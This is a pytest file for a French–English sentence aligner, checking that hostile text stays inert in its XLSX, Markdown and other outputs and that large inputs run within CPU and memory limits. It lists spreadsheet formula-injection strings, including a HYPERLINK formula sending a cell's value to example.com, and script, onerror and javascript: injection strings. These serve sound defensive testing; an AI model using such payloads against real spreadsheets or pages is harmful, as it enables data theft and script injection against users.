"""Hostile inputs, round 2: what the outputs hold, and what large inputs cost.

Document text is data in every output: a sentence that looks like a formula
stays text in the XLSX, one that holds HTML or Markdown stays text in the
divergence list, a file name that is not UTF-8 leaves every output valid.
Large inputs run in a child process under a CPU-time and an address-space
limit, so that a return of a quadratic or unbounded cost fails the test
instead of stalling the suite.
"""

from __future__ import annotations

import fcntl
import io
import json
import os
import pty
import re
import resource
import struct
import subprocess
import sys
import termios
import threading
import zipfile
from pathlib import Path

import openpyxl
import pytest
from lxml import etree, html

from aligner.document import Document
from aligner.findings import Comparison, CorpusTerm, Finding, Term
from aligner.formats import pairs, report, write_outputs
from aligner.formats.fields import alignment_time
from aligner.formats.units import Unit, units_alignment

from .conftest import REPO
from .test_convert_stream import write_tmx

#: Texts a spreadsheet would run as formulas if they were stored as such (OWASP's CSV-injection list).
FORMULAS = [
    "=2+3*7",
    '=HYPERLINK("http://example.com/?leak="&A1,"Cliquez ici")',
    "+33 1 23 45 67 89",
    "-1 point de pourcentage",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
#: A sentence written to be run, or to change the layout, when a Markdown viewer renders the report.
HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)> [cliquez](javascript:alert(3)) "
    "**gras** _penché_ `code` ~~barré~~ a | b \\ &amp; # titre ![image](x.png) <https://example.com>"
)


def _alignment(pairs_of_texts: list[tuple[str, str]], src_name: str = "fr.txt", tgt_name: str = "en.txt"):
    return units_alignment(
        [Unit(src, tgt, 0.5) for src, tgt in pairs_of_texts],
        Document(Path(src_name), "fr", []),
        Document(Path(tgt_name), "en", []),
        model="m",
        engine="given",
    )


# --- Item 1: no formula in the XLSX -----------------------------------------------------------


def test_xlsx_stores_formula_like_texts_as_text(tmp_path) -> None:
    alignment = _alignment([(text, text) for text in FORMULAS])
    (path,) = write_outputs(alignment, Comparison(), tmp_path, "hostile", ["xlsx"])
    with zipfile.ZipFile(path) as archive:
        sheet = etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    namespace = {"m": sheet.nsmap[None]}
    assert sheet.xpath("//m:f", namespaces=namespace) == []
    text_cells = sheet.xpath("//m:c[m:is]", namespaces=namespace)
    assert text_cells and {cell.get("t") for cell in text_cells} == {"inlineStr"}
    rows = list(openpyxl.load_workbook(path).active.iter_rows(min_row=2))
    # Read back exactly as written: no apostrophe added, no character lost; editing keeps them text.
    assert [(row[3].value, row[4].value) for row in rows] == [(text, text) for text in FORMULAS]
    assert all(row[3].data_type == "s" and row[3].quotePrefix for row in rows)


# --- Item 4: the Markdown divergence list quotes text, never runs it ---------------------------


def test_markdown_report_renders_hostile_text_as_text() -> None:
    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py renders the report as a viewer would")
    alignment = _alignment([(HOSTILE, "The <b>minister</b> | spoke.")], src_name="<i>fr&amp;_[1].txt")
    finding = Finding("number", "high", (0,), (0,), HOSTILE, "The <b>minister</b> | spoke.", f"« {HOSTILE} »", 1.0)
    term = Term("*terme*", (0,), (("<u>term</u>", 1), ("`x`", 1)))
    page = report.write_md(alignment, Comparison([finding], [term]), alignment_time()).decode("utf-8")
    rendered = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(page)
    tree = html.fragment_fromstring(rendered, create_parent="div")
    assert tree.xpath("//script|//img|//a|//em|//code|//s|//u|//b|//i") == []
    assert [strong.text for strong in tree.xpath("//strong")] == ["no"]  # the report's own: term not consistent
    title = tree.xpath("//h1")[0].text_content()
    assert title == "Divergences: <i>fr&amp;_[1].txt (fr) / en.txt (en)"
    header, row = tree.xpath("//table[1]//tr")[:2]
    cells = [cell.text_content() for cell in row.xpath("td")]
    assert len(cells) == len(header.xpath("th")) == 8
    assert cells[5:] == [HOSTILE, "The <b>minister</b> | spoke.", f"« {HOSTILE} »"]
    term_cells = [cell.text_content() for cell in tree.xpath("//table[2]//tr")[1].xpath("td")]
    assert term_cells[0] == "*terme*" and term_cells[2] == "<u>term</u> (1×); `x` (1×)"


# --- Item 6: a file name that is not UTF-8 ------------------------------------------------------


def _limited(cpu_seconds: int, memory_bytes: int):
    """What a child process runs before the command: a CPU-time and an address-space limit."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_CPU, (cpu_seconds, cpu_seconds))
        resource.setrlimit(resource.RLIMIT_AS, (memory_bytes, memory_bytes))

    return limit


GIB = 1 << 30


def _aligner(*args: str | bytes, cpu_seconds: int, memory_bytes: int, timeout: float, **options):
    """``aligner ARGS`` in a child process under limits; ``timeout`` (wall clock) backs up the CPU limit."""
    return subprocess.run(
        [sys.executable, "-m", "aligner.cli", *args],
        cwd=REPO,
        timeout=timeout,
        check=False,
        preexec_fn=_limited(cpu_seconds, memory_bytes),
        **options,
    )


def test_file_names_that_are_not_utf8_leave_every_output_valid(tmp_path) -> None:
    folder = os.fsencode(tmp_path)
    src, tgt = folder + b"/fr\xff.txt", folder + b"/en\xff.txt"
    with open(src, "wb") as out:
        out.write("Le ministre a publié le rapport annuel.\nLa province a approuvé le budget.\n".encode())
    with open(tgt, "wb") as out:
        out.write(b"The minister published the annual report.\nThe province approved the budget.\n")
    out_dir = folder + b"/out"
    result = _aligner(
        "align", src, tgt, "-o", out_dir, "--src-lang", "fr", "--tgt-lang", "en",
        "--format", "tmx,tei,tsv,xlsx,jsonl,report",
        cpu_seconds=120, memory_bytes=4 * GIB, timeout=300, capture_output=True,
    )
    assert result.returncode == 0, result.stderr.decode(errors="replace")
    written = {name.split(b".", 1)[1].decode(): out_dir + b"/" + name for name in os.listdir(out_dir)}
    assert sorted(written) == sorted(["tmx", "tei.xml", "tsv", "xlsx", "jsonl", "divergences.json",
                                      "divergences.md", "report.html"])
    for suffix, path in written.items():
        with open(path, "rb") as file:
            data = file.read()
        if suffix == "xlsx":
            assert openpyxl.load_workbook(io.BytesIO(data)).active.max_row == 3
            continue
        data.decode("utf-8")
        if suffix in ("tmx", "tei.xml"):
            etree.fromstring(data)
        elif suffix == "report.html":
            assert "fr\ufffd.txt" in html.document_fromstring(data.decode("utf-8")).text_content()
        elif suffix == "jsonl":
            assert [json.loads(line)["bead"] for line in data.splitlines()] == [1, 2]
    summary = json.loads(Path(os.fsdecode(written["divergences.json"])).read_bytes())
    # One replacement character per undecodable byte, as the XML outputs write it.
    assert (summary["source"]["file"], summary["target"]["file"]) == ("fr\ufffd.txt", "en\ufffd.txt")


def test_corpus_terminology_names_documents_whose_names_are_not_utf8() -> None:
    stem = os.fsdecode(b"communiqu\xe9")  # Latin-1 on disk: a lone surrogate in Python
    term = CorpusTerm("ministre", ((stem, (("minister", 2),)), ("autre", (("Minister", 1),))), (("minister", 3),))
    (entry,) = json.loads(report.to_corpus_terms_json([term]))["terms"]
    assert [document["document"] for document in entry["documents"]] == ["communiqu\ufffd", "autre"]
    assert "communiqu\ufffd: minister (2×)" in report.to_corpus_terms_md([term]).decode("utf-8")


# --- Item 10: compare with a cell of 10 MB --------------------------------------------------------


def test_a_long_pair_is_compared_whole(tmp_path) -> None:
    words = " ".join(f"mot{i % 50}" for i in range(8_000))[:40_000]
    data = f"{words}\t{words.replace('mot', 'word')}\n".encode()
    alignment = pairs.read(data, tmp_path / "pairs.tsv", "fr", "en")
    assert alignment.src.sentences[0].text == words
    assert alignment.src.notes == alignment.tgt.notes == []


def test_compare_cuts_a_ten_megabyte_cell_with_a_warning(tmp_path) -> None:
    words = " ".join(f"mot{i % 50}" for i in range(2_000_000))[:10_000_000]
    path = tmp_path / "pairs.tsv"
    path.write_text(f"Le ministre a parlé.\tThe minister spoke.\n{words}\tThe minister spoke at length.\n",
                    encoding="utf-8")
    result = _aligner(
        "compare", str(path), "-o", str(tmp_path / "out"), "--src-lang", "fr", "--tgt-lang", "en",
        cpu_seconds=120, memory_bytes=3 * GIB, timeout=300, capture_output=True, text=True,
    )
    assert result.returncode == 0, result.stderr
    warnings = [line for line in result.stderr.splitlines() if "warning" in line]
    assert len(warnings) == 1, result.stderr
    cut = re.fullmatch(
        rf"aligner: warning: {re.escape(str(path))}: line 2: the source cell holds 10,000,000 characters; "
        r"only its first ([\d,]+) are compared and written \(a pair is a sentence or a paragraph a side: "
        r"check the file for lost line breaks\)",
        warnings[0],
    )
    assert cut and pairs.MAX_CELL_CHARS // 2 <= int(cut[1].replace(",", "")) <= pairs.MAX_CELL_CHARS
    summary = json.loads((tmp_path / "out" / "pairs.divergences.json").read_text(encoding="utf-8"))
    assert [pair["id"] for pair in summary["pairs"]] == [0, 1]


# --- Item 11: many tiny repetitive sentences -------------------------------------------------------


def test_twenty_thousand_repetitive_sentences_align_in_bounded_time(tmp_path) -> None:
    """50,000 copies of five short sentences a side once ran for over 539 CPU seconds (a quadratic second
    pass). 20,000 take 14 CPU seconds now; the code before the second pass's corridor (b7859ee's parent)
    was still running when stopped at 100: the limit, 60, is between."""
    french, english = ["Oui.", "Non.", "Merci.", "Bonjour.", "Au revoir."], ["Yes.", "No.", "Thanks.", "Hello.", "Bye."]
    count = 20_000
    src, tgt = tmp_path / "fr.txt", tmp_path / "en.txt"
    src.write_text("".join(f"{french[i % 5]}\n" for i in range(count)), encoding="utf-8")
    tgt.write_text("".join(f"{english[i % 5]}\n" for i in range(count)), encoding="utf-8")
    result = _aligner(
        "align", str(src), str(tgt), "-o", str(tmp_path / "out"), "--presplit", "--format", "tmx",
        "--src-lang", "fr", "--tgt-lang", "en",
        cpu_seconds=60, memory_bytes=4 * GIB, timeout=300, capture_output=True, text=True,
    )
    assert result.returncode == 0, result.stderr
    assert f"{count} fr / {count} en sentences" in result.stdout
    units = sum(1 for _ in etree.iterparse(str(tmp_path / "out" / "fr-en.tmx"), tag="tu"))
    assert count <= units <= 1.2 * count


# --- Item 12: convert streams a large TMX ----------------------------------------------------------


def test_a_twenty_thousand_unit_tmx_converts_in_bounded_time_and_memory_with_progress(tmp_path) -> None:
    count = 20_000
    memory = write_tmx(tmp_path / "memory.tmx", count)
    # The progress bar shows on a terminal only: the child's stderr is one, read while it runs.
    terminal, child_end = pty.openpty()
    # A terminal 100 columns wide: tqdm draws nothing on one of no width.
    fcntl.ioctl(child_end, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 100, 0, 0))
    chunks: list[bytes] = []
    reader = threading.Thread(target=_read_all, args=(terminal, chunks))
    reader.start()
    try:
        result = _aligner(
            "convert", str(memory), "-o", str(tmp_path / "out"), "--format", "tmx",
            cpu_seconds=60, memory_bytes=3 * GIB, timeout=300, stdout=subprocess.PIPE, stderr=child_end,
        )
    finally:
        os.close(child_end)
        reader.join(timeout=10)
    progress = b"".join(chunks).decode("utf-8", "replace")
    assert result.returncode == 0, progress
    assert re.search(rf"{count}/{count}", progress), progress
    assert "in 10 chunks" in result.stdout.decode()
    units = sum(1 for _ in etree.iterparse(str(tmp_path / "out" / "memory.tmx"), tag="tu"))
    assert units == count


def _read_all(terminal: int, chunks: list[bytes]) -> None:
    """Everything written to a pseudo-terminal, until its other end is closed."""
    try:
        while chunk := os.read(terminal, 65536):
            chunks.append(chunk)
    except OSError:  # Linux: EIO once the other end is closed and all is read
        pass
    finally:
        os.close(terminal)
